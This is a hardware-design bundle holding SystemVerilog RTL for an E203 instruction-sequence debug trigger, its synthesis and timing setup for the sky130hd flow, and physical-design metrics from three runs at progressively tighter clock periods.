==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = e203_ifu_seqtrig_ctrl_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/e203_ifu_seqtrig_ctrl_if.sv /design/src/rtl/e203_ifu_seqtrig_ctrl.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__clkbuf_2
export CAP_MARGIN = 20
export CELL_PAD_IN_SITES_DETAIL_PLACEMENT = 1
export CELL_PAD_IN_SITES_GLOBAL_PLACEMENT = 1
export CORE_MARGIN = 4
export CORE_UTILIZATION = 42
export DETAILED_ROUTE_END_ITERATION = 10
export HOLD_SLACK_MARGIN = 0.06
export PLACE_DENSITY_LB_ADDON = 0.2
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name clk -period 20.8 [get_ports clk]
set_clock_uncertainty 0.05 [all_clocks]
set_input_delay 3.12 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 3.12 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
==> src/rtl/e203_ifu_seqtrig_ctrl_if.sv <==
// Config, instruction-watch and trigger signals of the sequence-trigger controller.
// Carries no flow control: instructions are observed, never stalled.
interface e203_ifu_seqtrig_ctrl_if #(
    parameter int IDX_W = 2
);
    logic             cfg_arm;
    logic             cfg_wr_en;
    logic [IDX_W-1:0] cfg_wr_idx;
    logic [31:0]      cfg_wr_pat;
    logic [31:0]      cfg_wr_mask;
    logic [IDX_W:0]   cfg_len;
    logic [3:0]       cfg_hold;
    logic [7:0]       cfg_win;
    logic             cfg_clr;
    logic [31:0]      ifu_o_ir;
    logic             ifu_o_valid;
    logic             dbg_trig_o;
    logic             hit_sticky;
    logic [IDX_W-1:0] cur_step;
    logic             busy;

    modport master (
        output cfg_arm, cfg_wr_en, cfg_wr_idx, cfg_wr_pat, cfg_wr_mask,
        output cfg_len, cfg_hold, cfg_win, cfg_clr, ifu_o_ir, ifu_o_valid,
        input  dbg_trig_o, hit_sticky, cur_step, busy
    );

    modport slave (
        input  cfg_arm, cfg_wr_en, cfg_wr_idx, cfg_wr_pat, cfg_wr_mask,
        input  cfg_len, cfg_hold, cfg_win, cfg_clr, ifu_o_ir, ifu_o_valid,
        output dbg_trig_o, hit_sticky, cur_step, busy
    );
endinterface

==> src/rtl/e203_ifu_seqtrig_ctrl.sv <==
// Instruction-sequence debug trigger; inter-match window built only with E203_SEQTRIG_WIN_EN.
// Latency: trigger rises 1 cycle after the final slot matches; no backpressure (observe-only).
module e203_ifu_seqtrig_ctrl #(
    parameter int SEQ_DEPTH = 4,
    parameter int IDX_W     = $clog2(SEQ_DEPTH)
) (
    input  logic                     clk,
    input  logic                     rst,
    e203_ifu_seqtrig_ctrl_if.slave   bus
);

    typedef enum logic [1:0] {
        IDLE = 2'd0,
        SCAN = 2'd1,
        FIRE = 2'd2
    } state_t;

    localparam logic [IDX_W:0] DEPTH_L = (IDX_W+1)'(SEQ_DEPTH);

    state_t           state, state_nxt;
    logic [IDX_W-1:0] step, step_nxt;
    logic [3:0]       hold_cnt, hold_nxt;
    logic             trig, trig_nxt;
    logic             sticky, sticky_nxt;
    logic             busy_r, busy_nxt;

    logic [31:0]      pat  [SEQ_DEPTH];
    logic [31:0]      mask [SEQ_DEPTH];

    logic [IDX_W:0]   len_eff;
    logic [IDX_W-1:0] last_idx;
    logic [3:0]       hold_eff;
    logic             match_step;
    logic             match_0;
    logic             expire;
    logic             adv;
    logic [IDX_W-1:0] adv_from;

    function automatic logic slot_hit(input logic [31:0] ir,
                                      input logic [31:0] p,
                                      input logic [31:0] m);
        return ((ir ^ p) & m) == 32'd0;
    endfunction

    // Pattern table is only writable while disarmed so a running match never sees a torn slot.
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            for (int k = 0; k < SEQ_DEPTH; k++) begin
                pat[k]  <= 32'd0;
                mask[k] <= 32'd0;
            end
        end else if (bus.cfg_wr_en && !bus.cfg_arm) begin
            for (int k = 0; k < SEQ_DEPTH; k++) begin
                if (bus.cfg_wr_idx == IDX_W'(k)) begin
                    pat[k]  <= bus.cfg_wr_pat;
                    mask[k] <= bus.cfg_wr_mask;
                end
            end
        end
    end

    always_comb begin
        len_eff = bus.cfg_len;
        if (bus.cfg_len == '0) begin
            len_eff = (IDX_W+1)'(1);
        end else if (bus.cfg_len > DEPTH_L) begin
            len_eff = DEPTH_L;
        end
    end

    assign last_idx   = IDX_W'(len_eff - 1'b1);
    assign hold_eff   = (bus.cfg_hold == 4'd0) ? 4'd1 : bus.cfg_hold;
    assign match_step = bus.ifu_o_valid && slot_hit(bus.ifu_o_ir, pat[step], mask[step]);
    assign match_0    = bus.ifu_o_valid && slot_hit(bus.ifu_o_ir, pat[0], mask[0]);

`ifdef E203_SEQTRIG_WIN_EN
    // win_cnt==1 marks the last cycle a partial sequence may still advance; 0 means unlimited.
    logic [7:0] win_cnt, win_nxt;

    assign expire = (state == SCAN) && (step != '0) && (win_cnt == 8'd1) && !match_step;

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            win_cnt <= 8'd0;
        end else begin
            win_cnt <= win_nxt;
        end
    end
`else
    logic unused_win;
    assign unused_win = ^bus.cfg_win;
    assign expire     = 1'b0;
`endif

    always_comb begin
        state_nxt = state;
        step_nxt  = step;
        hold_nxt  = hold_cnt;
        adv       = 1'b0;
        adv_from  = step;
`ifdef E203_SEQTRIG_WIN_EN
        win_nxt   = (win_cnt > 8'd1) ? (win_cnt - 8'd1) : win_cnt;
`endif

        case (state)
            IDLE: begin
                if (bus.cfg_arm) begin
                    state_nxt = SCAN;
                    step_nxt  = '0;
                end
            end

            SCAN: begin
                if (match_step) begin
                    adv      = 1'b1;
                    adv_from = step;
                end else if (expire) begin
                    // The expiring instruction still gets a chance to start a fresh sequence.
                    step_nxt = '0;
                    if (match_0) begin
                        adv      = 1'b1;
                        adv_from = '0;
                    end
                end

                if (adv) begin
                    if (adv_from >= last_idx) begin
                        state_nxt = FIRE;
                        step_nxt  = '0;
                        hold_nxt  = hold_eff;
                    end else begin
                        step_nxt  = adv_from + 1'b1;
`ifdef E203_SEQTRIG_WIN_EN
                        win_nxt   = bus.cfg_win;
`endif
                    end
                end
            end

            FIRE: begin
                if (hold_cnt <= 4'd1) begin
                    state_nxt = SCAN;
                    step_nxt  = '0;
                end else begin
                    hold_nxt  = hold_cnt - 4'd1;
                end
            end

            default: begin
                state_nxt = IDLE;
                step_nxt  = '0;
            end
        endcase

        if (!bus.cfg_arm) begin
            state_nxt = IDLE;
            step_nxt  = '0;
        end

        trig_nxt = (state_nxt == FIRE);
        busy_nxt = (state_nxt == FIRE) || ((state_nxt == SCAN) && (step_nxt != '0));

        // A completion in the same cycle as a clear must leave the flag set.
        if ((state_nxt == FIRE) && (state != FIRE)) begin
            sticky_nxt = 1'b1;
        end else if (bus.cfg_clr) begin
            sticky_nxt = 1'b0;
        end else begin
            sticky_nxt = sticky;
        end
    end

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            state    <= IDLE;
            step     <= '0;
            hold_cnt <= 4'd0;
            trig     <= 1'b0;
            sticky   <= 1'b0;
            busy_r   <= 1'b0;
        end else begin
            state    <= state_nxt;
            step     <= step_nxt;
            hold_cnt <= hold_nxt;
            trig     <= trig_nxt;
            sticky   <= sticky_nxt;
            busy_r   <= busy_nxt;
        end
    end

    assign bus.dbg_trig_o = trig;
    assign bus.hit_sticky = sticky;
    assign bus.cur_step   = step;
    assign bus.busy       = busy_r;

endmodule

==> src/flat_wrapper.sv <==
// flat-port wrapper written by rule: the top's interface ports become plain ports
module e203_ifu_seqtrig_ctrl_flat 
#(
    parameter int SEQ_DEPTH = 4,
    parameter int IDX_W     = $clog2(SEQ_DEPTH)
)
  (clk, rst, bus_cfg_arm, bus_cfg_wr_en, bus_cfg_wr_idx, bus_cfg_wr_pat, bus_cfg_wr_mask, bus_cfg_len, bus_cfg_hold, bus_cfg_win, bus_cfg_clr, bus_ifu_o_ir, bus_ifu_o_valid, bus_dbg_trig_o, bus_hit_sticky, bus_cur_step, bus_busy);
  e203_ifu_seqtrig_ctrl_if #(.IDX_W(IDX_W)) bus_i ();
  input  logic clk;
  input  logic rst;
  input wire logic [$bits(bus_i.cfg_arm)-1:0] bus_cfg_arm;
  input wire logic [$bits(bus_i.cfg_wr_en)-1:0] bus_cfg_wr_en;
  input wire logic [$bits(bus_i.cfg_wr_idx)-1:0] bus_cfg_wr_idx;
  input wire logic [$bits(bus_i.cfg_wr_pat)-1:0] bus_cfg_wr_pat;
  input wire logic [$bits(bus_i.cfg_wr_mask)-1:0] bus_cfg_wr_mask;
  input wire logic [$bits(bus_i.cfg_len)-1:0] bus_cfg_len;
  input wire logic [$bits(bus_i.cfg_hold)-1:0] bus_cfg_hold;
  input wire logic [$bits(bus_i.cfg_win)-1:0] bus_cfg_win;
  input wire logic [$bits(bus_i.cfg_clr)-1:0] bus_cfg_clr;
  input wire logic [$bits(bus_i.ifu_o_ir)-1:0] bus_ifu_o_ir;
  input wire logic [$bits(bus_i.ifu_o_valid)-1:0] bus_ifu_o_valid;
  output wire logic [$bits(bus_i.dbg_trig_o)-1:0] bus_dbg_trig_o;
  output wire logic [$bits(bus_i.hit_sticky)-1:0] bus_hit_sticky;
  output wire logic [$bits(bus_i.cur_step)-1:0] bus_cur_step;
  output wire logic [$bits(bus_i.busy)-1:0] bus_busy;
  assign bus_i.cfg_arm = bus_cfg_arm;
  assign bus_i.cfg_wr_en = bus_cfg_wr_en;
  assign bus_i.cfg_wr_idx = bus_cfg_wr_idx;
  assign bus_i.cfg_wr_pat = bus_cfg_wr_pat;
  assign bus_i.cfg_wr_mask = bus_cfg_wr_mask;
  assign bus_i.cfg_len = bus_cfg_len;
  assign bus_i.cfg_hold = bus_cfg_hold;
  assign bus_i.cfg_win = bus_cfg_win;
  assign bus_i.cfg_clr = bus_cfg_clr;
  assign bus_i.ifu_o_ir = bus_ifu_o_ir;
  assign bus_i.ifu_o_valid = bus_ifu_o_valid;
  assign bus_dbg_trig_o = bus_i.dbg_trig_o;
  assign bus_hit_sticky = bus_i.hit_sticky;
  assign bus_cur_step = bus_i.cur_step;
  assign bus_busy = bus_i.busy;
  e203_ifu_seqtrig_ctrl #(.SEQ_DEPTH(SEQ_DEPTH), .IDX_W(IDX_W)) u_core (.clk(clk), .rst(rst), .bus(bus_i));
endmodule
==> results of run 1 <==
[per-stage QoR]
stage / std cells / instance area [um2] / hold WS, ps
final: 1433 / 14300 / 450
after global routing: 1433 / 14300 / 471
after CTS: 1433 / 14300 / 452
after detailed placement: 1380 / 13300 / 440
after global placement: 1380 / 13300 / 433
after floorplan: 906 / 12300 / 423
[cells by family (layout without fill, tap and decap cells)]
kind of cell / after synthesis / after routing / share of synthesized area
XOR/XNOR: 122 / 122 / 0.0871
flip-flops: 267 / 267 / 0.545
adder cells (fa/ha/maj): 8 / 8 / 0.00816
buffers and inverters: 50 / 193 / 0.0159
AO/OA/AOI/OAI: 102 / 102 / 0.0647
AND/OR/NAND/NOR: 96 / 96 / 0.0399
multiplexers: 261 / 261 / 0.239
[Yosys cell counts, drive strengths merged (3+ instances only)]
cell / instances
ha: 8
xnor2: 4
a31oi: 7
a222oi: 11
xor2: 118
nand2b: 4
buf: 6
o2111ai: 3
nor3: 7
a221oi: 3
a22oi: 25
nand4: 6
nand3: 19
nand2: 27
a21oi: 16
dfrtp: 267
mux2: 257
and3: 4
a2111oi: 3
inv: 15
a21o: 4
o21ai: 11
o31ai: 4
nor2: 14
mux2i: 4
clkbuf: 29
nor2b: 4
[power groups by stage]
stage | sequential, mW | clock, mW | combinational (mW)
6_report | 0.700 | 0.520 | 0.267
5_1_grt | 0.714 | 0.556 | 0.297
4_1_cts | 0.700 | 0.534 | 0.273
3_5_place_dp | 0.709 | 0 | 0.270
3_3_place_gp | 0.702 | 0 | 0.263
2_1_floorplan | 0.690 | 0 | 0.197
[worst max-delay path: cells and delay by family]
kind | cells | cell delay (ps)
buffers and inverters | 1 | 150
AO/OA/AOI/OAI | 6 | 2150
AND/OR/NAND/NOR | 1 | 170
XOR/XNOR | 1 | 170
[cell type report]
type	count	share of cell area
clock buffer	46	0.0638
timing repair buffer	125	0.0456
tap	384	0.0336
multi-input combinational	589	0.380
clock inverter	7	0.00499
inverter	15	0.00447
sequential	267	0.468
[cells in the final DEF, fill, tap and decap left out, types with 10 or more instances in the layout]
cell type / synthesis / routed
dfrtp_1: 267 / 267
mux2_2: 257 / 257
xor2_1: 118 / 118
clkbuf_2: 0 / 115
clkbuf_16: 0 / 30
nand2_1: 27 / 27
a22oi_1: 25 / 25
nand3_1: 19 / 19
a21oi_1: 16 / 16
nor2_1: 14 / 14
inv_1: 14 / 13
a222oi_1: 11 / 11
clkbuf_8: 0 / 10
buf_4: 0 / 10
[routing by layer]
metal | share of wire | wire length, um | vias up | GRT usage
met3 | 0.037 | 1130 | 46 | 0.0293
met4 | 0.020 | 590 | 0 | 0.0409
li1 | - | - | 3514 | -
met1 | 0.45 | 13500 | 4017 | 0.254
met5 | 0 | 0 | - | 0
met2 | 0.50 | 15000 | 117 | 0.328
[sequential cells by signal (all words and copies together) (netlist names)]
register / flops
u_core.bus.busy: 1
u_core.bus.cur_step: 2
u_core.bus.dbg_trig_o: 1
u_core.bus.hit_sticky: 1
u_core.hold_cnt: 4
u_core.mask: 128
u_core.pat: 128
u_core.state: 2
[worst max path at each step]
stage / from / to / slack, ps / cells past startpoint
2_1_floorplan: rst / u_core.bus.busy$_DFF_PP0_ / 10280 / 1
3_5_place_dp: bus_ifu_o_ir[27] / u_core.hold_cnt[2]$_DFFE_PP0P_ / 14770 / 9
5_1_grt: bus_ifu_o_ir[11] / u_core.hold_cnt[2]$_DFFE_PP0P_ / 15230 / 9
6_report: bus_ifu_o_ir[14] / u_core.hold_cnt[2]$_DFFE_PP0P_ / 15390 / 9
3_3_place_gp: bus_ifu_o_ir[27] / u_core.hold_cnt[2]$_DFFE_PP0P_ / 14760 / 9
4_1_cts: bus_ifu_o_ir[27] / u_core.hold_cnt[2]$_DFFE_PP0P_ / 15350 / 9
==> flow_metrics.env, run 1 <==
export IMPL_drtPass1Iterations=6
export IMPL_grt_pass1_vias=8288
export IMPL_n_fill_cell=2933
export IMPL_ctsHoldBuffers=0
export IMPL_power_leakage_nw=6.37
export IMPL_drtIter0Drc=326
export IMPL_layout_setup_ws_ps=15390
export IMPL_min_from="u_core.mask[53]$_DFFE_PP0P_"
export IMPL_worst_slew_pin_slew_ps=930
export IMPL_setup_tns_ps=0
export IMPL_ys_seq_area_frac=0.545
export IMPL_timing_rr_end="u_core.hold_cnt[2]$_DFFE_PP0P_"
export IMPL_p_total_mw=1.49
export IMPL_p_int_mw=1.09
export IMPL_grt_util_all_layers=0.190
export IMPL_cts_resized=0
export IMPL_hold_viol=0
export IMPL_grt_max_degree=75
export IMPL_io_buffers=115
export IMPL_async_reset_ff_frac=1.00
export IMPL_cts_setup_buffers=0
export IMPL_multi_input_area_mm2=0.00542
export IMPL_slew_headroom=0.380
export IMPL_synth_cells=906
export IMPL_synth_top_area_frac=0.545
export IMPL_clk_insertion_delay_late_ps=560
export IMPL_yosys_register_bits=267
export IMPL_cp_cell_sequence="clkbuf_2, xor2_1, a31oi_1, nand3_1, a221o_1, a2111oi_4, o21ai_0, o21ai_0, a21oi_1"
export IMPL_drt_total_wl_um=30200
export IMPL_yosys_area_top_type="dfrtp_1"
export IMPL_cts_buffer_depth=3
export IMPL_crit_fanout=6
export IMPL_cts_tree="yes"
export IMPL_crit_top_cell="o21ai_0"
export IMPL_diodes=0
export IMPL_path_clk_slew_ps=60
export IMPL_synth_flop_cell="dfrtp_1"
export IMPL_antenna_found_initial=1
export IMPL_status="finished, final reports clean"
export IMPL_dieWidth_um=179
export IMPL_power_frac_seq=0.471
export IMPL_fin_crit_sh=0.260
export IMPL_critPathCaptureType="flip-flop"
export IMPL_row_count=62
export IMPL_cts_root_buffer_cell="clkbuf_16"
export IMPL_start_util=0.426
export IMPL_detail_route_vias_per_cell=5.37
export IMPL_crit_required_ps=21160
export IMPL_synth_edf_count=0
export IMPL_synthTopCellsByArea="dfrtp_1 (54%), mux2_2 (24%), xor2_1 (8.4%), a22oi_1 (1.5%), a222oi_1 (0.90%)"
export IMPL_worstSetupPathType="in2reg"
export IMPL_max_clock_freq_mhz=185
export IMPL_hold_path_end="u_core.mask[53]$_DFFE_PP0P_"
export IMPL_ant_nets=0
export IMPL_synthesis_nets=1033
export IMPL_holdPathStages=1
export IMPL_gp_congestion=0.764
export IMPL_regArea_mm2=0.00668
export IMPL_area_delta_synth_final_pct=16.5
export IMPL_r2r_cells=9
export IMPL_r2r_slack_ps=17020
export IMPL_min_path_type="reg2reg"
export IMPL_vdd_drop_max_v=0.0000757
export IMPL_drv_cap=0
export IMPL_syn_avg_cell_area_um2=13.5
export IMPL_io_pins=124
export IMPL_power_frac_clock=0.350
export IMPL_ys_warn_count=0
export IMPL_power_switching_uw=396
export IMPL_p_comb_frac=0.180
export IMPL_core_area_mm2=0.0288
export IMPL_ys_types=54
export IMPL_pre_cts_slack_ps=14770
export IMPL_slew_viol_final=0
export IMPL_via_count=7694
export IMPL_cp_start_kind="primary input"
export IMPL_syn_area_mm2=0.0123
export IMPL_drc_errors=0
export IMPL_die_area_mm2=0.0320
export IMPL_post_route_util=0.496
export IMPL_grt_overflow=0
export IMPL_sw_frac_of_total=0.266
export IMPL_max_stage_delay_ps=560
export IMPL_powerDensity_mw_per_mm2=104
export IMPL_final_layout_size_suffix_gt1_frac=0.422
export IMPL_grt_first_pass_wirelength_um=47100
export IMPL_die_h_um=179
export IMPL_fin_crit_ps=5410
export IMPL_routedWlPerCell_um=21.1
export IMPL_nets=1155
export IMPL_setup_viol=0
export IMPL_r2r_start="u_core.bus.cur_step[0]$_DFF_PP0_"
export IMPL_rsz0062_at_grt="false"
export IMPL_cp_slowest_cell="a2111oi_4"
export IMPL_cts_buffers=30
export IMPL_clock_sinks=267
export IMPL_critPathArrivalTime_ps=5770
export IMPL_dp_final_hpwl_um=20500
export IMPL_cts_htree_levels=1
Power figures use the tool's default switching activity.
==> run 2: changes to the inputs <==
==> constraint.sdc (replaced) <==
create_clock -name clk -period 4.5 [get_ports clk]
set_clock_uncertainty 0.05 [all_clocks]
set_input_delay 0.675 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.675 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
==> run 2 against run 1 <==
Effect of this change: combinational power rose to 4.6 times the previous value; die area unchanged; total power rose to 4.6 times the previous value; clock power rose to 4.4 times the previous value; non-clock buffer count is 2 higher; critical path depth unchanged; routed wire length decreased by 1.6%; via count fell by 0.23%; global-route usage shrank 0.18 points; hold slack worse by 310 ps; register-to-register slack lost 16000 ps; first-iteration DRC count decreased by 3.7%.
==> flow_metrics.env, run 2 (synthesis gave the netlist of run 1 again) <==
export IMPL_cts_resized=0
export IMPL_post_route_util=0.495
export IMPL_rsz0062_at_grt="false"
export IMPL_crit_fanout=18
export IMPL_grt_max_degree=66
export IMPL_cts_tree="yes"
export IMPL_cp_startpoint="u_core.bus.cur_step[0]$_DFF_PP0_"
export IMPL_hold_ws_ps=136
export IMPL_drv_cap=0
export IMPL_top_regs="u_core.mask x128, u_core.pat x128, u_core.hold_cnt x4"
export IMPL_io_pins=124
export IMPL_min_path_type="in2async"
export IMPL_cts_root_buffer_cell="clkbuf_16"
export IMPL_grt_overflow=0
export IMPL_core_area_mm2=0.0288
export IMPL_power_frac_seq=0.479
export IMPL_grt_pass1_vias=8434
export IMPL_clk_insertion_delay_late_ps=550
export IMPL_grt_util_all_layers=0.188
export IMPL_cts_setup_buffers=0
export IMPL_status="finished, final reports clean"
export IMPL_critPathArrivalTime_ps=3710
export IMPL_cp_start_kind="flip-flop"
export IMPL_gp_congestion=0.727
export IMPL_powerDensity_mw_per_mm2=476
export IMPL_ctsHoldBuffers=0
export IMPL_drtIter0Drc=314
export IMPL_die_area_mm2=0.0320
export IMPL_ant_nets=0
export IMPL_cts_buffers=29
export IMPL_via_count=7676
export IMPL_drt_total_wl_um=29700
export IMPL_r2r_cells=9
export IMPL_start_util=0.426
export IMPL_crit_top_cell="o21ai_0"
export IMPL_cp_cell_sequence="buf_4, inv_2, a31oi_1, nand3_1, a221o_1, a2111oi_4, o21ai_0, o21ai_0, a21oi_1"
export IMPL_critPathCaptureType="flip-flop"
export IMPL_power_leakage_nw=6.34
export IMPL_max_stage_delay_ps=560
export IMPL_drc_errors=0
export IMPL_power_switching_mw=1.82
export IMPL_r2r_start="u_core.bus.cur_step[0]$_DFF_PP0_"
export IMPL_io_buffers=115
export IMPL_p_comb_frac=0.182
export IMPL_area_delta_synth_final_pct=16.1
export IMPL_clock_sinks=267
export IMPL_final_cell_mix="dfrtp_1 (267), mux2_2 (257), xor2_1 (118)"
export IMPL_setup_tns_ps=0
export IMPL_setup_viol=0
export IMPL_fin_crit_ps=3350
export IMPL_detail_route_vias_per_cell=5.35
export IMPL_antenna_found_initial=2
export IMPL_drtPass1Iterations=7
export IMPL_sw_frac_of_total=0.269
export IMPL_slew_viol_final=0
export IMPL_cts_buffer_depth=3
export IMPL_dieWidth_um=179
export IMPL_grt_first_pass_wirelength_um=47400
export IMPL_cp_slowest_cell="a2111oi_4"
export IMPL_cts_htree_levels=1
export IMPL_layout_commonest_cell="dfrtp_1"
export IMPL_layout_setup_ws_ps=1150
export IMPL_max_clock_freq_mhz=299
export IMPL_pre_cts_slack_ps=959
export IMPL_dp_final_hpwl_um=20400
export IMPL_p_int_mw=4.95
export IMPL_row_count=62
export IMPL_die_h_um=179
export IMPL_slew_headroom=0.312
export IMPL_fin_crit_sh=0.744
export IMPL_power_frac_clock=0.340
export IMPL_path_clk_slew_ps=60
export IMPL_crit_required_ps=4860
export IMPL_worst_slew_pin_slew_ps=1030
export IMPL_worstSetupPathType="reg2reg"
export IMPL_final_layout_size_suffix_gt1_frac=0.421
export IMPL_hold_viol=0
export IMPL_diodes=0
export IMPL_routedWlPerCell_um=20.7
export IMPL_nets=1156
export IMPL_vdd_drop_max_v=0.000283
run 2: changes by cell type in the layout (fill, tap and decap cells not counted), moves of 2 or more:
cell      change
clkbuf_1      +2
clkinv_2      +2
buf_4         +2
clkbuf_8      -4
run 2: worst paths after layout:
path / to / slack (ps)
setup / recovery: u_core.hold_cnt[2]$_DFFE_PP0P_ / 1150
hold / removal: u_core.pat[68]$_DFFE_PP0P_ / 140
setup reg to reg: u_core.hold_cnt[2]$_DFFE_PP0P_ / 1150
hold reg to reg: u_core.mask[83]$_DFFE_PP0P_ / 460
max in group asynchronous: u_core.pat[15]$_DFFE_PP0P_ / 3070
min in group clk: u_core.bus.hit_sticky$_DFFE_PP0P_ / 280
run 2: critical path: cells and delay by family, from the launching register on:
kind                   cells  cell delay (ps)
AND/OR/NAND/NOR            1              130
buffers and inverters      2              480
flip-flops                 1              320
AO/OA/AOI/OAI              6             2210
run 2: per-layer routing:
metal / part of all wire / global-route usage / vias up
met4: 0.015 / 0.0323 / 4
met1: 0.46 / 0.257 / 4024
met3: 0.035 / 0.0289 / 35
met2: 0.49 / 0.324 / 112
li1: - / - / 3501
met5: 0.0011 / 0 / -
run 2: stage by stage:
step	instances	total power, mW	instance area, um2
2_1_floorplan	906	4.10	12300
3_3_place_gp	1382	4.46	13300
3_5_place_dp	1382	4.53	13300
4_1_cts	1434	6.86	14200
5_1_grt	1434	7.15	14200
6_report	1434	6.77	14200
run 2: cell type report:
| class | instances | area (um2) |
|---|---|---|
| fill | 2957 | 14500 |
| inverter | 15 | 60.1 |
| multi-input combinational | 589 | 5420 |
| clock inverter | 9 | 85.1 |
| tap | 384 | 480 |
| clock buffer | 43 | 838 |
| timing repair buffer | 127 | 666 |
| sequential | 267 | 6680 |
run 2: power groups by stage:
stage | sequential [mW] | combinational (mW) | clock (mW)
2_1_floorplan | 3.19 | 0.912 | 0
3_3_place_gp | 3.25 | 1.21 | 0
3_5_place_dp | 3.28 | 1.25 | 0
4_1_cts | 3.24 | 1.26 | 2.36
5_1_grt | 3.31 | 1.37 | 2.47
6_report | 3.24 | 1.23 | 2.30
==> run 3: changes to the inputs <==
==> constraint.sdc (replaced) <==
create_clock -name clk -period 3 [get_ports clk]
set_clock_uncertainty 0.05 [all_clocks]
set_input_delay 0.45 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.45 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
==> run 3 against run 2 <==
Effect of this change: critical path depth rose by 1; clock-buffer cell count up 1; register-to-register slack got worse by 1000 ps; total power rose by 51%; final cell count rose by 3.1%; non-clock buffer count up 47; via count rose by 1.9%; sequential power is 50% higher; global-route usage grew 0.49 points; die area unchanged; largest cell class unchanged; highest routed layer unchanged.
==> flow_metrics.env, run 3 (synthesis gave the netlist of run 1 again) <==
export IMPL_row_count=62
export IMPL_drtPass1Iterations=5
export IMPL_holdPathStages=2
export IMPL_ant_nets=0
export IMPL_max_stage_delay_ps=480
export IMPL_cts_root_buffer_cell="clkbuf_16"
export IMPL_dp_final_hpwl_um=21300
export IMPL_layout_commonest_cell="dfrtp_1"
export IMPL_nets=1204
export IMPL_dieWidth_um=179
export IMPL_status="finished, final reports clean"
export IMPL_start_util=0.426
export IMPL_hold_viol=0
export IMPL_cts_buffer_depth=3
export IMPL_slew_headroom=0.542
export IMPL_critPathArrivalTime_ps=3280
export IMPL_cp_cell_sequence="xor2_1, a222oi_1, and3_1, a31oi_1, a221o_2, buf_4, nor2_2, nand2_1, o311a_1, o31ai_1"
export IMPL_power_leakage_nw=6.58
export IMPL_gp_congestion=0.752
export IMPL_core_area_mm2=0.0288
export IMPL_slew_viol_final=0
export IMPL_grt_pass1_vias=8634
export IMPL_n_fill_cell=2901
export IMPL_fin_crit_sh=0.959
export IMPL_powerDensity_mw_per_mm2=694
export IMPL_clk_insertion_delay_late_ps=560
export IMPL_post_route_util=0.511
export IMPL_via_count=7819
export IMPL_drc_errors=0
export IMPL_busiest_layer="met2"
export IMPL_cp_slowest_cell="a222oi_1"
export IMPL_clock_sinks=267
export IMPL_max_clock_freq_mhz=348
export IMPL_r2r_start="u_core.pat[44]$_DFFE_PP0P_"
export IMPL_crit_fanout=3
export IMPL_cp_start_kind="flip-flop"
export IMPL_timing_rr_end="u_core.bus.busy$_DFF_PP0_"
export IMPL_r2r_slack_ps=120
export IMPL_area_delta_synth_final_pct=20.0
export IMPL_grt_use_met3=0.0283
export IMPL_grt_first_pass_wirelength_um=48600
export IMPL_setup_viol=0
export IMPL_io_buffers=115
export IMPL_routedWlPerCell_um=20.8
export IMPL_cts_buffers=30
export IMPL_final_layout_size_suffix_gt1_frac=0.449
export IMPL_drt_total_wl_um=30800
export IMPL_grt_max_degree=81
export IMPL_crit_required_ps=3400
export IMPL_grt_util_met1=0.262
export IMPL_io_pins=124
export IMPL_worstSetupPathType="reg2reg"
export IMPL_path_clk_slew_ps=60
export IMPL_fin_crit_ps=2880
export IMPL_antenna_found_initial=3
export IMPL_grt_util_all_layers=0.193
export IMPL_globalRouteMet2Util=0.332
export IMPL_place_area_mm2=0.0138
export IMPL_die_area_mm2=0.0320
export IMPL_detail_route_vias_per_cell=5.29
export IMPL_worst_slew_pin_slew_ps=683
export IMPL_min_path_type="in2reg"
export IMPL_cts_htree_levels=1
export IMPL_final_area_mm2=0.0147
export IMPL_final_cell_mix="dfrtp_1 (266), mux2_2 (257), xor2_1 (118)"
export IMPL_die_h_um=179
export IMPL_min_from="bus_cfg_wr_pat[21]"
export IMPL_drtIter0Drc=375
export IMPL_grt_overflow=0
export IMPL_top_regs="u_core.mask x128, u_core.pat x128, u_core.hold_cnt x4"
export IMPL_r2r_cells=10
export IMPL_critPathCaptureType="flip-flop"
export IMPL_cts_tree="yes"
export IMPL_drv_cap=0
export IMPL_vdd_drop_max_v=0.000464
export IMPL_hold_path_end="u_core.pat[117]$_DFFE_PP0P_"
## run 3: cell count changes in the layout (fill, tap and decap cells not counted), sizes merged
cell,previous run,this run
buf,12,57
clkinv,7,5
dlygate4sd3,0,2
bufinv,1,0
clkbuf,158,159
diode,0,1
inv,15,14
## run 3: worst max path at each step
stage | from | slack, ps | end | cells past startpoint
global placement | bus_ifu_o_ir[27] | -90 | u_core.bus.hit_sticky$_DFFE_PP0P_ | 10
floorplan | rst | -1030 | u_core.bus.busy$_DFF_PP0_ | 1
finish | u_core.pat[44]$_DFFE_PP0P_ | 120 | u_core.bus.busy$_DFF_PP0_ | 10
global route | u_core.pat[91]$_DFFE_PP0P_ | -4 | u_core.hold_cnt[2]$_DFFE_PP0P_ | 10
detailed placement | bus_ifu_o_ir[31] | -140 | u_core.bus.hit_sticky$_DFFE_PP0P_ | 10
CTS | u_core.bus.cur_step[0]$_DFF_PP0_ | 8 | u_core.bus.hit_sticky$_DFFE_PP0P_ | 9
## run 3: final cells by class
cell class                      count  area, um2  area share
Timing Repair Buffer              174       1140      0.0772
Clock buffer                       44        843      0.0573
Clock inverter                      5       36.3     0.00247
Antenna cell                        1       2.50    0.000170
Tap cell                          384        480      0.0327
Inverter                           15       62.6     0.00425
Sequential cell                   267       6680       0.454
Multi-Input combinational cell    589       5470       0.372
## run 3: routing by layer
metal,up-vias,wire length [um],part of all wire
met2,119,15400,0.50
met1,4053,13800,0.45
met4,4,476,0.015
met3,36,1010,0.033
li1,3607,-,-
met5,-,27,0.00088
## run 3: through the flow
